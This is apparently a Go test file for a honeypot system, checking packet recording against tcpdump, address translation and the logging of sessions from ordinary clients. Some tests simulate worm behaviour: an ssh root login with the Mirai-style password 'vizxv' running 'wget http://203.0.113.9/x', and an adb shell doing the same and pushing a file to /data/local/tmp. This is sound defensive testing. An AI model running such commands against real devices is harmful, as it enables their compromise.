package traplab

import (
	"bytes"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"dragnet/internal/netlab"
	"dragnet/internal/testkit"
	"dragnet/packet"
	"dragnet/packet/capture"
	"dragnet/packet/stream"
	"dragnet/trap/vault"
)

// tcpdump records an interface of a node from now on, until stop returns what it
// recorded.
func (l *lab) tcpdump(at *netlab.Node, dev string) (stop func() string) {
	l.Helper()
	file := filepath.Join(l.dir, at.Name+"-"+dev+".pcap")
	p, err := at.Start(testkit.Tool(l, "tcpdump"), "-i", dev, "-U", "--immediate-mode", "-s", "0", "-Z", "root", "-w", file)
	if err == nil {
		err = p.Await(l.Context(), "listening on")
	}
	if err != nil {
		l.Fatal(err)
	}
	return func() string {
		time.Sleep(300 * time.Millisecond)
		if err := p.Stop(); err != nil {
			l.Fatal(err)
		}
		return file
	}
}

// packetsIn are the TCP, UDP and echo packets of a capture to or from an address.
func (l *lab) packetsIn(file string, of ...netip.Addr) (frames []string, all []packet.Packet) {
	l.Helper()
	f, err := capture.Open(file)
	if err != nil {
		l.Fatal(err)
	}
	defer f.Close()
	for {
		r, err := f.Next()
		if err != nil {
			break
		}
		var p packet.Packet
		if p.Decode(r.Link, r.Data, r.Wire) != nil || !slices.Contains(of, p.Src) && !slices.Contains(of, p.Dst) || p.ICMPType >= 133 {
			continue
		}
		p.Payload = bytes.Clone(p.Payload)
		frames, all = append(frames, string(r.Data)), append(all, p)
	}
	return frames, all
}

// sides collects both directions of one connection.
type sides struct{ data [2]bytes.Buffer }

func (s *sides) Data(d stream.Direction, b []byte) { s.data[d].Write(b) }
func (s *sides) Gap(stream.Direction, int64)       {}
func (s *sides) Close(stream.CloseReason)          {}

// TestRecordedPacketsAreTcpdumps: what the trap recorded on the honeypots' link is
// what tcpdump did, packet by packet, and a session has the bytes of its packets.
func TestRecordedPacketsAreTcpdumps(t *testing.T) {
	l := newLab(t)
	l.startTrap("recording: {file_bytes: 65536, file_time: 2s, bytes: 10000000}")
	stop := l.tcpdump(l.router, "inside")
	l.startInert(5)
	l.attack()
	curl := testkit.Tool(t, "curl")
	for _, url := range []string{"http://198.51.100.7/a", "http://[2001:db8:9::7]/c", "ftp://198.51.100.9/up"} {
		if out, err := l.honeypot.Run(t.Context(), curl, "-sSg", "--max-time", "10", "-T", "trap_test.go", url); err != nil {
			t.Errorf("curl %s: %v %s", url, err, out)
		}
	}
	if out, err := l.honeypot.Run(t.Context(), "ping", "-c", "2", "-i", "0.2", "-s", "3000", "198.51.100.10"); err != nil { // fragments
		t.Errorf("ping: %v %s", err, out)
	}
	lines := l.lines(8)
	theirs := stop()
	if err := l.process.Stop(); err != nil {
		t.Error(err)
	}
	trapPackets := func(out string, more ...string) string {
		t.Helper()
		out = filepath.Join(l.dir, out)
		args := append([]string{"trap", "packets", "--directory", filepath.Join(l.dir, "captures"), "--out", out}, more...)
		if text, err := l.router.Run(t.Context(), l.agent, args...); err != nil {
			t.Fatal(err, text)
		}
		return out
	}
	ours := trapPackets("ours.pcap")
	addresses := []netip.Addr{honeypot, netip.MustParseAddr("2001:db8:77::2")}
	want, _ := l.packetsIn(theirs, addresses...)
	got, _ := l.packetsIn(ours, addresses...)
	// On several processors two taps may see packets that cross in another order.
	slices.Sort(want)
	slices.Sort(got)
	if len(want) < 100 || !slices.Equal(got, want) {
		t.Errorf("%d packets are recorded, tcpdump has %d", len(got), len(want))
	}
	files, err := filepath.Glob(filepath.Join(l.dir, "captures", "packets", "*"))
	if err != nil || len(files) < 2 {
		t.Errorf("files %v, %v", files, err)
	}
	for _, file := range files {
		if b, err := os.ReadFile(file); err != nil || !bytes.HasPrefix(b, []byte("age-encryption.org/v1\n")) || bytes.Contains(b, []byte("HTTP/1.1")) {
			t.Errorf("%s is not encrypted: %v", file, err)
		}
	}

	// Both sides of the internal translator: a session's bytes are those on the link.
	keys, err := vault.ReadKey(filepath.Join(l.dir, "captures", "age.key"))
	if err != nil {
		t.Fatal(err)
	}
	compared := 0
	for _, x := range lines {
		if x.Proto.String() != "tcp" || x.Sent == "" || x.Answered == "" {
			continue
		}
		compared++
		_, packets := l.packetsIn(trapPackets(x.ID+".pcap", "--session", x.ID), addresses...)
		var s sides
		a := stream.New(stream.DefaultConfiguration(), func(stream.Key) stream.Handler { return &s })
		for i := range packets {
			a.Packet(0, &packets[i])
		}
		a.Flush()
		for i, name := range []string{x.Sent, x.Answered} {
			if b, err := vault.ReadPayload(filepath.Join(l.dir, "captures"), name, keys); err != nil || !bytes.Equal(b, s.data[i].Bytes()) {
				t.Errorf("%s session %s, side %d: %d bytes kept, %d on the link, %v", x.Service, x.ID, i, len(b), s.data[i].Len(), err)
			}
		}
	}
	if compared < 6 {
		t.Errorf("only %d sessions were compared", compared)
	}
}

// TestGateTranslatesAddressesOnly: tcpdump on both sides of the gate sees the same
// packets but for addresses, in both directions.
func TestGateTranslatesAddressesOnly(t *testing.T) {
	l := newLab(t)
	l.startTrap()
	outside, inside := l.tcpdump(l.attacker, "eth0"), l.tcpdump(l.router, "inside")
	l.startInert(0)
	l.attack()
	meant := netip.MustParseAddr("192.0.2.200")
	_, before := l.packetsIn(outside(), meant)
	_, after := l.packetsIn(inside(), netip.MustParseAddr("203.0.113.2"))
	if len(before) != len(after) || len(before) < 8 {
		t.Fatalf("%d packets outside, %d inside", len(before), len(after))
	}
	show := func(p *packet.Packet, mapped netip.Addr) string {
		src, dst := p.Src, p.Dst
		for _, a := range []*netip.Addr{&src, &dst} {
			if *a == mapped {
				*a = meant
			}
		}
		return fmt.Sprint(src, dst, p.SrcPort, p.DstPort, p.Seq, p.Ack, p.Flags, p.Payload)
	}
	list := func(all []packet.Packet, mapped netip.Addr) (out []string) {
		for i := range all {
			out = append(out, show(&all[i], mapped))
		}
		slices.Sort(out) // the two points see packets that cross in another order
		return out
	}
	if a, b := list(before, meant), list(after, honeypot); !slices.Equal(a, b) {
		t.Errorf("outside\n%s\ninside\n%s", strings.Join(a, "\n"), strings.Join(b, "\n"))
	}
}

// TestDebiansClients: clients from Debian get as far as their protocols need to
// deliver something, and it is recorded.
func TestDebiansClients(t *testing.T) {
	l := newLab(t)
	l.startTrap("array: {idle: 3s}")
	file := filepath.Join(l.dir, "payload")
	if err := os.WriteFile(file, bytes.Repeat([]byte("what a worm would upload\n"), 100), 0o600); err != nil {
		t.Fatal(err)
	}
	script := func(name, text string) string {
		path := filepath.Join(l.dir, name)
		if err := os.WriteFile(path, []byte(text), 0o700); err != nil {
			t.Fatal(err)
		}
		return path
	}
	password := script("askpass", "#!/bin/sh\necho vizxv\n")
	for _, c := range []struct {
		name    string
		program string
		args    []string
		want    string // in the client's output
		service string
	}{
		{"ssh", "ssh", []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "root@198.51.100.11", "wget http://203.0.113.9/x"}, "wget: not found", "ssh/shell"},
		{"mqtt", "mosquitto_pub", []string{"-h", "198.51.100.12", "-t", "a/b", "-q", "2", "-f", file}, "", "mqtt"},
		{"mqtt 5", "mosquitto_pub", []string{"-V", "mqttv5", "-h", "198.51.100.12", "-t", "a/b", "-q", "1", "-m", "x"}, "", "mqtt"},
		{"mqtt subscription", "mosquitto_sub", []string{"-V", "mqttv5", "-h", "198.51.100.12", "-t", "#", "-W", "1", "-E"}, "", "mqtt"},
		{"sip", "sipsak", []string{"-s", "sip:100@198.51.100.13"}, "", "sip"},
		{"smb", "smbclient", []string{"-L", "//198.51.100.14", "-N", "-m", "SMB2", "-d", "1"}, "", "smb"},
		{"smb 1", "smbclient", []string{"-L", "//198.51.100.14", "-N", "-m", "NT1", "--option=client min protocol=CORE", "-d", "1"}, "", "smb"},
		{"tftp", "tftp", []string{"-m", "binary", "198.51.100.15", "-c", "put", file, "up"}, "", "tftp"},
		{"ftp", "curl", []string{"-sS", "-T", file, "ftp://198.51.100.16/up"}, "", "ftp"},
		{"smtp", "curl", []string{"-sS", "smtp://198.51.100.17", "--mail-from", "a@example.org", "--mail-rcpt", "b@example.org", "-T", file}, "", "smtp"},
		{"redis", "redis-cli", []string{"-h", "198.51.100.18", "set", "a", "b"}, "OK", "redis"},
		{"telnet", "curl", []string{"-sS", "-m", "2", "telnet://198.51.100.19"}, "", "telnet"},
		{"nmap", "nmap", []string{"-Pn", "-n", "-sV", "--version-light", "-p", "21,22,80,1433", "198.51.100.20"}, "22/tcp", "http"},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := len(l.recorded())
			args := append([]string{"30", testkit.Tool(t, c.program)}, c.args...)
			args = append([]string{"SSH_ASKPASS=" + password, "SSH_ASKPASS_REQUIRE=force", "HOME=" + l.dir, "timeout"}, args...)
			out, err := l.honeypot.Run(t.Context(), "env", args...)
			// Some of these end with an error, since there is nothing there.
			if !strings.Contains(out, c.want) {
				t.Errorf("%v: %s", err, out)
			}
			for range 80 {
				for _, x := range l.recorded()[before:] {
					if x.Service == c.service && x.Sent != "" {
						return
					}
				}
				time.Sleep(100 * time.Millisecond)
			}
			t.Errorf("no session of %s is recorded; the client says %v: %s", c.service, err, out)
		})
	}
}

// TestADBClient: Debian's adb connects, asks for a shell and pushes a file.
func TestADBClient(t *testing.T) {
	l := newLab(t)
	l.startTrap("array: {idle: 5s}")
	adb := func(args ...string) (string, error) {
		all := append([]string{"HOME=" + l.dir, "ADB_MDNS=0", "timeout", "30", testkit.Tool(t, "adb")}, args...)
		return l.honeypot.Run(t.Context(), "env", all...)
	}
	t.Cleanup(func() {
		if out, err := l.honeypot.Run(t.Context(), "env", "HOME="+l.dir, "adb", "kill-server"); err != nil {
			t.Log(err, out)
		}
	})
	for _, c := range [][]string{{"connect", "198.51.100.21:5555"}, {"-s", "198.51.100.21:5555", "shell", "wget http://203.0.113.9/x"},
		{"-s", "198.51.100.21:5555", "push", "inert.go", "/data/local/tmp/x"}} {
		out, err := adb(c...)
		if c[0] == "connect" && !strings.Contains(out, "connected to") || c[0] != "connect" && err != nil || strings.Contains(out, "offline") {
			t.Errorf("adb %v: %v %s", c, err, out)
		}
	}
	if out, err := adb("disconnect"); err != nil {
		t.Error(err, out)
	}
	source, err := os.ReadFile("inert.go")
	if err != nil {
		t.Fatal(err)
	}
	keys, err := vault.ReadKey(filepath.Join(l.dir, "captures", "age.key"))
	if err != nil {
		t.Fatal(err)
	}
	sent := []byte(nil)
	for _, x := range l.lines(1) {
		if x.Service == "adb" && x.Sent != "" {
			b, err := vault.ReadPayload(filepath.Join(l.dir, "captures"), x.Sent, keys)
			if err != nil {
				t.Fatal(err)
			}
			sent = append(sent, b...)
		}
	}
	if !bytes.Contains(sent, []byte("shell:wget http://203.0.113.9/x")) && !bytes.Contains(sent, []byte("wget http://203.0.113.9/x")) || !bytes.Contains(sent, source[:200]) {
		t.Errorf("the command or the file is not recorded in %d bytes", len(sent))
	}
}

// recorded are the sessions recorded so far.
func (l *lab) recorded() (all []vault.Line) {
	l.Helper()
	if err := vault.Sessions(filepath.Join(l.dir, "captures"), func(x *vault.Line) error { all = append(all, *x); return nil }); err != nil {
		l.Fatal(err)
	}
	return all
}
